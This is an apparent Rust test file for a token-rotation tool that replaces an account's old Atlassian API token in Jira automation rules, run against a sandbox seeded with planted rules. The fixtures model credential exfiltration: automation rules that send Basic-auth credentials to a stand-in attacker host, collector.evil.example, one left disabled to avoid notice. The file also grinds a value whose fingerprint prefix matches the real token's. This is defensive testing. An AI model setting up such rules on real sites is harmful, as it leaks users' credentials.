//! Only the account's real old token is replaced: the real binary against a sandbox site
//! where rule editors planted credentials that name the account (a junk token sent to
//! their own host, a token-shaped fake calling the site's REST API, junk in a "Create
//! variable") beside the account's real ones.
//!
//! Each test checks what reached the site (the planted rules byte-identical, the real ones
//! holding the new token), how many failed logins the run caused (the sandbox counts them:
//! a few lock the account), and what the summary says about the unconfirmed values and
//! the revoke advice.

use autorekey::sandbox::{Account, SandboxConfig};
use autorekey::secret::{Fingerprint, Token};
use base64::Engine as _;
use serde_json::{json, Value};

use crate::common::{fake_token, RunOutput, SiteSpec, TestSite};

const ADMIN: &str = "admin@acme.example";
pub(crate) const ALICE: &str = "alice@acme.example";

pub(crate) fn basic(user: &str, token: &str) -> String {
    let b64 = base64::engine::general_purpose::STANDARD.encode(format!("{user}:{token}"));
    format!("Basic {b64}")
}

/// A rule with one "Send web request" carrying `auth` to `url`.
fn rule_with_web_request(uuid: &str, name: &str, url: &str, auth: &str, state: &str) -> Value {
    json!({"rule": {
        "uuid": uuid, "name": name, "state": state,
        "authorAccountId": format!("712020:author-of-{name}"),
        "trigger": {"id": "1", "component": "TRIGGER", "schemaVersion": 1,
            "type": "jira.issue.event.trigger:created", "value": {}, "children": [], "conditions": []},
        "components": [{"id": "2", "component": "ACTION", "schemaVersion": 1,
            "type": "jira.issue.outgoing.webhook",
            "value": {"url": url, "method": "POST",
                "headers": [{"id": "h1", "name": "Authorization", "value": auth, "headerSecure": false}],
                "sendIssue": false, "contentType": "empty"},
            "children": [], "conditions": []}]
    }, "connections": []})
}

/// A rule whose "Create variable" holds `email:token` in clear.
fn variable(uuid: &str, name: &str, pair: &str) -> Value {
    json!({"rule": {
        "uuid": uuid, "name": name, "state": "ENABLED",
        "trigger": {"id": "1", "component": "TRIGGER", "schemaVersion": 1,
            "type": "jira.issue.event.trigger:created", "value": {}, "children": [], "conditions": []},
        "components": [{"id": "2", "component": "ACTION", "schemaVersion": 1,
            "type": "jira.create.variable",
            "value": {"id": "v1", "name": {"type": "FREE", "value": "auth"},
                      "type": "SMART", "query": {"type": "SMART", "value": pair}},
            "children": [], "conditions": []}]
    }, "connections": []})
}

pub(crate) const REAL: &str = "0190f3a2-0000-7000-8000-00000000a001";
const REAL_TOO: &str = "0190f3a2-0000-7000-8000-00000000a002";
/// The real token as `echo "email:token" | base64` writes it (a line end inside the value),
/// which Atlassian accepts.
const REAL_ECHOED: &str = "0190f3a2-0000-7000-8000-00000000a003";
pub(crate) const PLANTED_JUNK: &str = "0190f3a2-0000-7000-8000-00000000b001";
pub(crate) const PLANTED_SITE: &str = "0190f3a2-0000-7000-8000-00000000b002";
const PLANTED_VAR: &str = "0190f3a2-0000-7000-8000-00000000b003";
const PLANTED_MORE: &str = "0190f3a2-0000-7000-8000-00000000b004";

/// The site: alice's real old token in three rules, and four planted rules naming alice.
pub(crate) struct Planted {
    pub site: TestSite,
    pub old: String,
    pub new: String,
    /// The planted values, token-shaped or not.
    pub fakes: Vec<String>,
}

pub(crate) fn planted_site() -> Planted {
    let (old, new) = (fake_token(), fake_token());
    let fakes = vec![fake_token(), fake_token(), fake_token()];
    let rules = vec![
        rule_with_web_request(
            REAL,
            "Real: comment",
            "{{baseUrl}}/rest/api/3/issue/{{issue.key}}/comment",
            &basic(ALICE, &old),
            "ENABLED",
        ),
        rule_with_web_request(
            REAL_TOO,
            "Real: transition",
            "https://acme.atlassian.net/rest/api/3/issue",
            &basic(ALICE, &old),
            "ENABLED",
        ),
        rule_with_web_request(
            REAL_ECHOED,
            "Real: pasted from a terminal",
            "{{baseUrl}}/rest/api/3/search",
            &format!("Basic {}", crate::common::echoed_basic(ALICE, &old)),
            "ENABLED",
        ),
        // Junk sent to the planter's own host, disabled so nobody notices.
        rule_with_web_request(
            PLANTED_JUNK,
            "Planted: to evil",
            "https://collector.evil.example/in",
            &basic(ALICE, "junk"),
            "DISABLED",
        ),
        // A token-shaped fake calling the site's REST API as alice.
        rule_with_web_request(
            PLANTED_SITE,
            "Planted: as alice",
            "{{baseUrl}}/rest/api/3/myself",
            &basic(ALICE, &fakes[0]),
            "ENABLED",
        ),
        variable(
            PLANTED_VAR,
            "Planted: variable",
            &format!("{ALICE}:{}", fakes[1]),
        ),
        rule_with_web_request(
            PLANTED_MORE,
            "Planted: one more",
            "https://collector.evil.example/2",
            &basic(ALICE, &fakes[2]),
            "ENABLED",
        ),
    ];
    Planted {
        site: site_with(rules, &old, &new, fakes.clone()),
        old,
        new,
        fakes,
    }
}

impl Planted {
    fn rotate(&self, extra: &[&str]) -> RunOutput {
        let new_file = self.site.write_file("new-token", &self.new);
        let backups = self.site.dir.path().join("backups");
        let mut cmd = self.site.cmd();
        cmd.args(["rotate", "--account", ALICE, "--new-token-file"])
            .arg(&new_file)
            .arg("--backup-dir")
            .arg(&backups)
            .args(extra);
        self.site.run_cmd(cmd)
    }

    pub fn rule(&self, uuid: &str) -> String {
        self.site.state().rule(uuid).expect("the rule").to_string()
    }

    fn failed_logins(&self) -> u64 {
        let stats = self.site.stats();
        let of = |m: &std::collections::BTreeMap<String, autorekey::sandbox::LoginAttempts>| {
            m.get(ALICE).map_or(0, |a| a.failed)
        };
        of(&stats.myself_attempts) + of(&stats.gateway_attempts)
    }
}

#[test]
fn planted_credentials_get_nothing_and_the_real_ones_are_rotated() {
    let p = planted_site();
    let before: Vec<String> = [PLANTED_JUNK, PLANTED_SITE, PLANTED_VAR, PLANTED_MORE]
        .iter()
        .map(|u| p.rule(u))
        .collect();

    let out = p.rotate(&["--yes", "--format", "json"]);
    out.expect_code(3);
    let json = out.json();

    // The real rules hold the new token, hidden now; the planted ones are byte-identical.
    for uuid in [REAL, REAL_TOO, REAL_ECHOED] {
        let rule = p.rule(uuid);
        assert!(rule.contains(&basic(ALICE, &p.new)), "{uuid} rotated");
        assert!(rule.contains("\"headerSecure\":true"), "{uuid} hidden");
    }
    let after: Vec<String> = [PLANTED_JUNK, PLANTED_SITE, PLANTED_VAR, PLANTED_MORE]
        .iter()
        .map(|u| p.rule(u))
        .collect();
    assert_eq!(before, after, "no planted rule was written");
    assert_eq!(p.site.stats().puts_per_rule.len(), 3, "three writes in all");

    // At most two failed logins: the junk is not token-shaped, the third fake not tried.
    assert!(
        p.failed_logins() <= 2,
        "{} failed logins",
        p.failed_logins()
    );

    assert_eq!(json["verdict"]["advice"], "unconfirmed");
    assert_eq!(json["verdict"]["revoke"], false);
    let old_fps: Vec<&str> = json["old_fingerprints"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert_eq!(old_fps, vec![Fingerprint::of(&p.old).to_string()]);
    assert_eq!(json["confirmed"][0]["evidence"], "login");
    let unconfirmed = json["unconfirmed"].as_array().expect("unconfirmed groups");
    assert_eq!(unconfirmed.len(), 4, "{unconfirmed:#?}");
    let logins: Vec<&str> = unconfirmed
        .iter()
        .filter_map(|u| u["login"].as_str())
        .collect();
    assert!(logins.contains(&"not_token_shaped"), "{logins:?}");
    assert!(logins.contains(&"budget_spent"), "{logins:?}");
    assert_eq!(logins.iter().filter(|l| **l == "refused").count(), 2);
    let junk = unconfirmed
        .iter()
        .find(|u| u["login"] == "not_token_shaped")
        .unwrap();
    assert_eq!(junk["destinations"][0], "collector.evil.example");
}

#[test]
fn the_summary_says_revoke_nothing_yet_and_how_to_confirm() {
    let p = planted_site();
    let out = p.rotate(&["--yes"]);
    out.expect_code(3);
    let text = &out.stdout;
    assert!(
        text.contains("Not confirmed as alice@acme.example's token"),
        "{text}"
    );
    assert!(text.contains("Revoke nothing yet"), "{text}");
    assert!(text.contains("collector.evil.example"), "{text}");
    assert!(text.contains("login:    refused"), "{text}");
    let fp = Fingerprint::of(&p.fakes[0]).to_string();
    assert!(text.contains(&format!("--fingerprint {fp}")), "{text}");
    assert!(!text.contains(&format!("revoke the old {fp}")), "{text}");
}

#[test]
fn an_expired_real_token_is_rotated_once_named_and_a_given_old_token_confirms_its_rules() {
    let p = planted_site();
    // The named fingerprint confirms that value (and selects only it).
    let fp = Fingerprint::of(&p.fakes[0]).to_string();
    let out = p.rotate(&["--yes", "--fingerprint", &fp, "--format", "json"]);
    assert_eq!(out.json()["confirmed"][0]["evidence"], "fingerprint");
    assert!(p.rule(PLANTED_SITE).contains(&basic(ALICE, &p.new)));
    assert!(p.rule(REAL).contains(&basic(ALICE, &p.old)), "not selected");
    assert_eq!(p.failed_logins(), 0, "a named value is not tried");

    // The old token given confirms the rules holding it, without a login.
    let q = planted_site();
    let old_file = q.site.write_file("old-token", &q.old);
    let out = q.rotate(&[
        "--yes",
        "--old-token-file",
        old_file.to_str().unwrap(),
        "--format",
        "json",
    ]);
    let json = out.json();
    assert_eq!(json["confirmed"][0]["evidence"], "old_token_file");
    assert!(q.rule(REAL).contains(&basic(ALICE, &q.new)));
    assert!(q.rule(PLANTED_SITE).contains(&basic(ALICE, &q.fakes[0])));
}

#[test]
fn a_saved_plan_records_the_confirmations_and_apply_never_takes_a_planted_value() {
    let p = planted_site();
    let plan = p.site.dir.path().join("plan.json");
    let out = p.rotate(&["--out", plan.to_str().unwrap()]);
    out.expect_code(0);
    let saved: Value = serde_json::from_str(&std::fs::read_to_string(&plan).unwrap()).unwrap();
    assert_eq!(saved["confirmed"][0]["evidence"], "login");
    let planned: Vec<&str> = saved["rules"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|r| r["uuid"].as_str())
        .collect();
    assert_eq!(
        planned.len(),
        3,
        "only the real rules are planned: {planned:?}"
    );

    let new_file = p.site.write_file("new-token-2", &p.new);
    let backups = p.site.dir.path().join("backups");
    let mut cmd = p.site.cmd();
    cmd.arg("apply")
        .arg(&plan)
        .arg("--new-token-file")
        .arg(&new_file)
        .arg("--backup-dir")
        .arg(&backups)
        .args(["--yes", "--format", "json"]);
    let out = p.site.run_cmd(cmd);
    out.expect_code(3);
    let json = out.json();
    // The planted rules hold values of alice the plan does not name: left alone.
    assert_eq!(json["verdict"]["revoke"], false);
    assert!(p.rule(REAL).contains(&basic(ALICE, &p.new)));
    assert!(p.rule(PLANTED_SITE).contains(&basic(ALICE, &p.fakes[0])));
    assert!(p.failed_logins() <= 4, "two runs, at most two each");
}

/// A site of `rules` with the admin and alice (`old` and `new` her valid tokens).
fn site_with(rules: Vec<Value>, old: &str, new: &str, planted: Vec<String>) -> TestSite {
    let admin = fake_token();
    let account = |email: &str, tokens: Vec<String>, admin: bool| Account {
        email: email.into(),
        account_id: format!("712020:{email}"),
        admin,
        tokens: tokens.into_iter().map(Token::new).collect(),
        revoked_tokens: vec![],
    };
    let mut secrets = vec![admin.clone(), old.to_string(), new.to_string()];
    secrets.extend(planted);
    SiteSpec {
        config: SandboxConfig {
            rules,
            accounts: vec![
                account(ADMIN, vec![admin.clone()], true),
                account(ALICE, vec![old.to_string(), new.to_string()], false),
            ],
            ..SandboxConfig::default()
        },
        login: ADMIN.into(),
        admin_token: admin,
        secrets,
    }
    .start()
}

fn rotate_on(site: &TestSite, new: &str, extra: &[&str]) -> RunOutput {
    let new_file = site.write_file(&format!("new-{}", uuid::Uuid::new_v4()), new);
    let mut cmd = site.cmd();
    cmd.args(["rotate", "--account", ALICE, "--new-token-file"])
        .arg(&new_file)
        .arg("--backup-dir")
        .arg(site.dir.path().join("backups"))
        .args(extra);
    site.run_cmd(cmd)
}

/// Review finding: `--fingerprint` with a short prefix confirmed every value it selected,
/// and a rule editor can grind an Atlassian-shaped value whose (plain) fingerprint starts
/// like the real token's. A prefix selects, but only a whole fingerprint naming one value
/// confirms; the real token is confirmed by its login, the ground value gets nothing.
#[test]
fn a_fingerprint_prefix_never_confirms_a_value_ground_to_match_it() {
    let (old, new) = (fake_token(), fake_token());
    let want = Fingerprint::of(&old).to_string()[..4].to_string();
    let junk = (0u64..)
        .map(|i| format!("ATATT3xFfGF0{i:0>60}"))
        .find(|j| Fingerprint::of(j).to_string().starts_with(&want))
        .expect("a value sharing four hex digits");
    let rules = vec![
        rule_with_web_request(
            REAL,
            "Real",
            "{{baseUrl}}/rest/api/3/issue",
            &basic(ALICE, &old),
            "ENABLED",
        ),
        rule_with_web_request(
            PLANTED_JUNK,
            "Planted: to evil",
            "https://collector.evil.example/in",
            &basic(ALICE, &junk),
            "DISABLED",
        ),
    ];
    let site = site_with(rules, &old, &new, vec![junk.clone()]);
    let out = rotate_on(
        &site,
        &new,
        &["--yes", "--fingerprint", &want, "--format", "json"],
    );
    out.expect_code(3);
    let evil = site.state().rule(PLANTED_JUNK).unwrap().to_string();
    assert!(
        evil.contains(&basic(ALICE, &junk)),
        "the ground value got nothing"
    );
    let real = site.state().rule(REAL).unwrap().to_string();
    assert!(
        real.contains(&basic(ALICE, &new)),
        "the real token, confirmed by login"
    );
    assert_eq!(out.json()["confirmed"][0]["evidence"], "login");
}

/// Review finding: a rerun named for revoking every value of the account in the earlier
/// run's backups, a planted one beside the real token included, once the admin removed
/// it. Only what an earlier run wrote over (its journal says) is an old token.
#[test]
fn a_rerun_never_names_an_unconfirmed_value_for_revoking() {
    let (old, new) = (fake_token(), fake_token());
    let mut mixed = rule_with_web_request(
        REAL,
        "Mixed",
        "{{baseUrl}}/rest/api/3/issue",
        &basic(ALICE, &old),
        "ENABLED",
    );
    let evil = rule_with_web_request(
        PLANTED_JUNK,
        "x",
        "https://collector.evil.example/in",
        &basic(ALICE, "junk-password-1"),
        "ENABLED",
    );
    let mut planted = evil["rule"]["components"][0].clone();
    planted["id"] = json!("3");
    mixed["rule"]["components"]
        .as_array_mut()
        .unwrap()
        .push(planted);
    let site = site_with(vec![mixed], &old, &new, vec!["junk-password-1".into()]);
    rotate_on(&site, &new, &["--yes"]).expect_code(3);
    // The admin removes the planted component the summary listed.
    site.state().edit_rule(REAL, |r| {
        r["rule"]["components"].as_array_mut().unwrap().truncate(1);
    });
    let out = rotate_on(&site, &new, &["--yes", "--format", "json"]);
    let json = out.json();
    let junk = crate::common::keyed_fingerprint("junk-password-1").to_string();
    assert_eq!(
        json["old_fingerprints"],
        json!([Fingerprint::of(&old).to_string()]),
        "only the replaced token is old; the planted {junk} is not"
    );
    assert_eq!(
        json["verdict"]["revoke_fingerprints"],
        json!([Fingerprint::of(&old).to_string()])
    );
}
